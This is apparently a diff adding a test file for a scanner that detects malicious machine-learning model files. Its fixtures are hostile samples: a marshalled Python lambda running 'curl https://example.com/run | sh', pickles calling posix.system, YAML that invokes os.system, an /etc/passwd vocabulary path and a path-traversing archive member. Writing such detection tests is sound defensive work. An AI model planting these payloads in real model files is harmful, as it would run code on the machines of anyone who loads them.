@@ -1,0 +1,149 @@
+import { describe, expect, test } from 'vitest';
+import { readMarshalledCode } from '../../src/clinic/evidence/files/marshal.ts';
+import { groupRisks } from '../../src/clinic/report/security.ts';
+import { factsOf, factsOfFixture, healthyMembers, inMemory, zipOf } from './support.ts';
+
+/** `marshal.dumps` of Python 3.11: lambda x: __import__("os").system("curl https://example.com/run | sh") or x */
+const evilCode =
+	'4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6IWN1cmwgaHR0cHM6Ly9leGFtcGxlLmNvbS9ydW4gfCBzaCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAIPoHPHN0ZGluPvoIPGxhbWJkYT5yCAAAAAIAAABzIgAAAIAAjUqQdNEMHNQMHNcMI9IMI9AkR9EMSNQMSNAMTchBgADzAAAAAA==';
+
+/** A model of one layer that holds another: a wrapper, a nested model. */
+function around(inner: object): string {
+	return JSON.stringify({
+		module: 'keras',
+		class_name: 'Sequential',
+		config: {
+			name: 'sequential',
+			layers: [
+				{
+					module: 'keras.layers',
+					class_name: 'TimeDistributed',
+					config: { name: 'outer', layer: inner },
+				},
+			],
+		},
+	});
+}
+
+async function risksOf(inner: object) {
+	const { risks } = await factsOf(inMemory('model.json', around(inner)));
+	return risks.map(({ id, where, quote }) => [id, where, quote]);
+}
+
+describe('a configuration', () => {
+	test('with bytecode tells what the code refers to, without running it', async () => {
+		for (const called of [
+			{ class_name: '__lambda__', config: { code: evilCode, defaults: null, closure: null } },
+			[evilCode, null, null],
+		]) {
+			const { risks } = await factsOf(
+				inMemory(
+					'model.json',
+					around({
+						module: 'keras.layers',
+						class_name: 'Lambda',
+						config: { name: 'inner', function: called },
+					}),
+				),
+			);
+			expect(risks).toHaveLength(1);
+			expect(risks[0]).toMatchObject({
+				id: 'lambda-bytecode',
+				where: 'inner',
+				code: {
+					names: ['__import__', 'system'],
+					strings: ['os', 'curl https://example.com/run | sh'],
+					filename: '<stdin>',
+					python: '3.11 or later',
+				},
+			});
+		}
+	});
+
+	test.each([
+		[
+			{ module: 'os', class_name: 'function', config: 'system', registered_name: 'system' },
+			['module-outside-keras', 'outer', 'os.system'],
+		],
+		[
+			{ module: 'builtins', class_name: 'exec', config: { name: 'x' } },
+			['module-outside-keras', 'x', 'builtins.exec'],
+		],
+		[
+			{ module: 'keras.utils', class_name: 'get_file', config: { fname: 'x' } },
+			['function-of-keras', 'outer', 'keras.utils.get_file'],
+		],
+		[
+			{ module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
+			['unsafe-mode-enabled', 'outer', 'keras.config.enable_unsafe_deserialization'],
+		],
+		[
+			{ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { name: 'torch' } },
+			['torch-module', 'torch', 'TorchModuleWrapper'],
+		],
+		[
+			{ module: 'keras.layers', class_name: 'TFSMLayer', config: { name: 't', filepath: 'sm' } },
+			['saved-model-layer', 't', 'filepath: sm'],
+		],
+		[
+			{
+				module: 'keras.layers',
+				class_name: 'StringLookup',
+				config: { name: 's', vocabulary: '/etc/passwd' },
+			},
+			['vocabulary-path', 's', 'vocabulary: /etc/passwd'],
+		],
+	])('with %j tells it', async (inner, expected) => {
+		expect(await risksOf(inner)).toEqual([expected]);
+	});
+
+	test('of Keras alone has nothing to tell', async () => {
+		for (const name of ['healthy.keras', 'k215_mobilenetish.h5', 'savedmodel_dir']) {
+			expect((await factsOfFixture(name)).risks, name).toEqual([]);
+		}
+	});
+});
+
+test('code that cannot be followed still shows its texts', () => {
+	const bytes = Buffer.from(evilCode, 'base64');
+	const cut = readMarshalledCode(new Uint8Array(bytes.subarray(0, 150)));
+	expect(cut.python).toBeNull();
+	expect(cut.strings.join()).toContain('curl https://example.com/run');
+	for (let length = 0; length < bytes.length; length++) {
+		expect(() => readMarshalledCode(new Uint8Array(bytes.subarray(0, length)))).not.toThrow();
+	}
+});
+
+test.each([
+	['0', 'Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg=='],
+	['2', 'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=='],
+	['4', 'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='],
+])('a pickle of protocol %s tells what it asks Python for', async (_, base64) => {
+	const facts = await factsOf(inMemory('model.h5', new Uint8Array(Buffer.from(base64, 'base64'))));
+	expect(facts).toMatchObject({
+		format: 'pickle',
+		risks: [{ id: 'pickle', quote: 'posix.system' }],
+	});
+});
+
+test('paths that leave an archive, and YAML that calls Python, are told', async () => {
+	const archive = await zipOf({ ...healthyMembers(), '../../evil.sh': 'x' });
+	const facts = await factsOf(inMemory('model.keras', archive));
+	expect(facts.risks).toEqual([
+		{ id: 'archive-path', where: '../../evil.sh', quote: '../../evil.sh' },
+	]);
+	const yaml =
+		'class_name: Sequential\nconfig:\n  layers: []\n  x: !!python/object/apply:os.system [id]\n';
+	expect((await factsOf(inMemory('m.yaml', yaml))).risks).toMatchObject([
+		{ id: 'yaml-object', quote: '!!python/object/apply:os.system' },
+	]);
+});
+
+test('the weakness of .h5 files is named for them alone', async () => {
+	const lambda = { class_name: 'Lambda', config: { name: 'l', function: [evilCode, null, null] } };
+	const facts = await factsOf(inMemory('model.json', around(lambda)));
+	const cves = (format: typeof facts.format) =>
+		groupRisks({ ...facts, format })[0]?.vulnerabilities.map(({ cve }) => cve);
+	expect(cves('legacy-h5')).toEqual(['CVE-2025-9905', 'CVE-2024-3660']);
+	expect(cves('keras-v3')).toEqual(['CVE-2024-3660']);
+});
